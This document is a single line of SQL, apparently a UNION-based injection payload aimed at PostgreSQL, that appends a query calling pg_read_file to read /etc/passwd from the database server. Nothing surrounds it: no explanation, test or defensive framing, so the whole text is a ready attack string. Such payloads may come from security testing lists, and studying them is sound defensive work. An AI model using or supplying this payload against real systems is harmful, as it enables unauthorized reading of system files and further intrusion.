SELECT 'a' UNION ALL SELECT pg_read_file('/etc/passwd')
